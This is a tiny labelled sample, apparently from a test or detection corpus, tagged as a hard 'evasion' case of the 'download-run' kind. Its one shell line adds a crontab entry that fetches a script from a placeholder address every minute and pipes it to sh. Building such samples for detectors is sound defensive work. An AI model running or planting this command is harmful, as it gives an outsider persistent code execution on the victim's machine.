# evasion: a crontab entry that downloads and runs
# grade: hard; does: download-run
(crontab -l 2>/dev/null; echo "* * * * * curl -s http://203.0.113.5/c | sh") | crontab -
